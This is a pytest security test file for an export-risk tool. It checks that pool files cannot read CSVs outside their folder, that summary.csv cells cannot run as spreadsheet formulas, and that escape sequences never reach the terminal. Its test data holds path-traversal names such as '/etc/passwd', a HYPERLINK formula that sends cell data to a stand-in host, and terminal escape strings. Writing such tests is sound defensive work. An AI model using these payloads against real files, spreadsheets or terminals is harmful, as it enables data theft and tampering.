"""Security: files named by a file stay in its folder, no formula injection in summary.csv, no escapes to a tty."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from exportrisk.consortium.io import load_pool
from exportrisk.errors import InputError
from tests.hostile import BRAZIL, POOL_CSV_HEADER, POOL_CSV_ROW, ROOT, deal_with, fifo, run, write_json


def pool_file(folder: Path, receivables_csv: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    return write_json(folder / "pool.json", {
        "schema": 1, "valuation_date": "2026-10-30", "consortium": {"name": "Como", "home_currency": "EUR"},
        "members": [{"name": "Tessitura"}], "receivables_csv": receivables_csv})


def test_a_csv_beside_the_pool_file_is_read(tmp_path: Path) -> None:
    (tmp_path / "pools").mkdir()
    (tmp_path / "pools" / "sub").mkdir()
    (tmp_path / "pools" / "sub" / "r.csv").write_text(f"{POOL_CSV_HEADER}\n{POOL_CSV_ROW}\n", encoding="utf-8")
    pool = load_pool(pool_file(tmp_path / "pools", "sub/r.csv"))
    assert len(pool.receivables) == 1


@pytest.mark.parametrize("name", ["/etc/passwd", "../r.csv", "sub/../../r.csv", "link.csv", "pipe.csv"])
def test_a_csv_outside_the_folder_or_not_a_file_is_refused(tmp_path: Path, name: str) -> None:
    (tmp_path / "r.csv").write_text(f"{POOL_CSV_HEADER}\n{POOL_CSV_ROW}\n", encoding="utf-8")
    folder = tmp_path / "pools"
    folder.mkdir()
    (folder / "link.csv").symlink_to(tmp_path / "r.csv")
    fifo(folder / "pipe.csv")
    with pytest.raises(InputError) as error:
        load_pool(pool_file(folder, name))
    assert "root:" not in str(error.value)


def test_a_pool_inside_a_report_pdf_reads_no_file_at_all(tmp_path: Path) -> None:
    from tests.hostile import pdf_with_attachment

    (tmp_path / "r.csv").write_text(f"{POOL_CSV_HEADER}\n{POOL_CSV_ROW}\n", encoding="utf-8")
    data = {"schema": 1, "valuation_date": "2026-10-30", "consortium": {"name": "Como", "home_currency": "EUR"},
            "members": [{"name": "Tessitura"}], "receivables_csv": "r.csv"}
    (tmp_path / "received.pdf").write_bytes(pdf_with_attachment("exportrisk-pool.json", json.dumps(data).encode()))
    with pytest.raises(InputError, match="came from a report"):
        load_pool(tmp_path / "received.pdf")


@pytest.mark.slow
def test_summary_cells_that_a_spreadsheet_would_run_are_neutralised(capsys, tmp_path: Path) -> None:
    header = ("valuation_date,exporter_name,home_currency,buyer_name,buyer_country,amount,currency,payment_days,"
              "instrument,buyer_rating,cost")
    names = ['=HYPERLINK("http://x.example/?"&A1)', "+SUM(A1:A9)", "-2+3", "@cmd", "\tTab Ltd", "Plain Ltd"]
    rows = [f'2026-10-30,"{n.replace(chr(34), chr(34) * 2)}",EUR,"{n.replace(chr(34), chr(34) * 2)}",BRA,'
            f"180000,USD,120,open_account,BB,128000" for n in names]
    rows.append("2026-10-30,=1+1,EUR,@bad,ZZZ,1,USD,120,open_account,BB,1")  # an error row echoes them too
    deals = tmp_path / "deals.csv"
    deals.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    run(capsys, "batch", deals, "--out", tmp_path / "out", "--sims", "1000")
    with (tmp_path / "out" / "summary.csv").open(encoding="utf-8", newline="") as handle:
        summary = list(csv.DictReader(handle))
    cells = [value for row in summary for key, value in row.items() if key in ("exporter", "buyer", "reason")]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert summary[0]["buyer"] == "'" + names[0] and summary[-2]["buyer"] == "Plain Ltd"
    assert all(float(r["min_price"]) > 0 for r in summary if r["status"] == "ok")  # numbers stay numbers


def test_escape_sequences_in_names_never_reach_the_terminal(capsys, tmp_path: Path) -> None:
    deal = deal_with(buyer={"name": "Evil\x1b[2J\x1b]0;owned\x07 Ltd\x9b31m"}, exporter={"name": "Ok\rSrl"})
    code, out, err = run(capsys, "quote", write_json(tmp_path / "d.json", deal), "--offline", "--sims", "1000")
    assert code == 0, err
    assert not [ch for ch in out + err if ord(ch) < 32 and ch not in "\n\t" or 0x7f <= ord(ch) <= 0x9f]
    assert "Evil[2J]0;owned Ltd31m" in out


def test_printable_drops_controls_and_shows_surrogates() -> None:
    from exportrisk.cli import printable

    assert printable("a\x1b[31mb\x00c\x85d\ud800e\n\tf") == "a[31mbcd\ufffde\n\tf"


def test_text_reaches_a_terminal_that_cannot_show_it(tmp_path: Path) -> None:
    """Confecções on an ASCII terminal: replaced characters, never UnicodeEncodeError."""
    env = dict(os.environ, PYTHONIOENCODING="ascii", EXPORTRISK_OFFLINE="1")
    proc = subprocess.run([sys.executable, "-m", "exportrisk", "quote", str(BRAZIL), "--sims", "1000"], env=env,
                          cwd=ROOT, capture_output=True, timeout=120)
    assert proc.returncode == 0, proc.stderr.decode(errors="replace")
    assert b"Confec??es" in proc.stdout and b"Traceback" not in proc.stderr


def test_a_lone_surrogate_in_a_name_is_refused_in_one_line(capsys, tmp_path: Path) -> None:
    path = tmp_path / "d.json"
    path.write_text(json.dumps(deal_with(buyer={"name": "Bad \ud800 Ltd"})), encoding="utf-8")
    code, _, err = run(capsys, "quote", path, "--offline")
    assert code == 2 and "buyer.name" in err and "surrogate" in err
